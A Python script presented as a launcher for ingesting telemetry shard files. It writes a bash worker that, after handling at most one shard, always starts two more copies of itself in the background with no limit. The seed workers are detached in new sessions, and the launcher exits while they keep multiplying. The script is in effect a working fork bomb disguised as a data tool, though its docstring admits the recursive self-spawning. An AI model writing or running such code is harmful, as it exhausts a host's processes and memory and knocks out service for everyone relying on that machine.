#!/usr/bin/env python3
"""Fan-out launcher for the raw telemetry backlog ingest.

Writes a bash worker script into ./fanout and starts it.  Each worker takes
the next shard file from the backlog (if any), parses it with an inline
python3 one-liner, and then "hands off" by launching two more copies of
itself in the background.  The hand-off happens whether or not there was a
shard to process and there is no depth or process limit, so the number of
processes doubles with every generation: recursive self-spawning.
"""

import argparse
import logging
import os
import subprocess
import sys
import time
from pathlib import Path

log = logging.getLogger("fanout")

FANOUT_DIR = Path("./fanout")

WORKER = r"""#!/usr/bin/env bash
# backlog worker: process one shard, then hand off to two successors
shard="$(ls -1 "$FANOUT_BACKLOG" 2>/dev/null | head -n 1)"
if [ -n "$shard" ]; then
    mv "$FANOUT_BACKLOG/$shard" "$FANOUT_DONE/$shard.$$" 2>/dev/null && \
    SHARD="$FANOUT_DONE/$shard.$$" python3 -c '
import os, json
n = sum(1 for line in open(os.environ["SHARD"]) if line.strip())
print(json.dumps({"shard": os.environ["SHARD"], "records": n}))
' >> "$FANOUT_LOG"
fi
bash "$0" &
bash "$0" &
wait
"""


class Launcher:
    def __init__(self, backlog: Path, seeds: int):
        self.backlog = backlog
        self.seeds = seeds
        self.done = FANOUT_DIR / "done"
        self.log_file = FANOUT_DIR / "ingest.jsonl"
        self.worker = FANOUT_DIR / "worker.sh"

    def prepare(self) -> None:
        FANOUT_DIR.mkdir(parents=True, exist_ok=True)
        self.done.mkdir(exist_ok=True)
        self.worker.write_text(WORKER, encoding="utf-8")
        self.worker.chmod(0o755)
        log.info("worker script at %s", self.worker)

    def launch(self) -> list:
        env = dict(os.environ,
                   FANOUT_BACKLOG=str(self.backlog.resolve()),
                   FANOUT_DONE=str(self.done.resolve()),
                   FANOUT_LOG=str(self.log_file.resolve()))
        pids = []
        for i in range(self.seeds):
            proc = subprocess.Popen(["bash", str(self.worker)], env=env,
                                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                    start_new_session=True)
            pids.append(proc.pid)
            log.info("seed worker %d started (pid %d)", i, proc.pid)
        return pids

    def progress(self) -> int:
        try:
            return sum(1 for _ in self.log_file.open(encoding="utf-8"))
        except OSError:
            return 0


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("backlog", type=Path, help="directory of raw telemetry shard files")
    ap.add_argument("--seeds", type=int, default=4, help="initial workers")
    ap.add_argument("--watch", type=int, default=30, help="seconds to report progress")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    if not args.backlog.is_dir():
        log.error("backlog %s is not a directory", args.backlog)
        return 2
    pending = len(list(args.backlog.iterdir()))
    log.info("%d shards pending", pending)

    launcher = Launcher(args.backlog, args.seeds)
    launcher.prepare()
    launcher.launch()

    deadline = time.time() + args.watch
    while time.time() < deadline:
        time.sleep(5)
        log.info("processed %d/%d shards", launcher.progress(), pending)
    log.info("launcher exiting; workers continue in the background")
    return 0


if __name__ == "__main__":
    sys.exit(main())
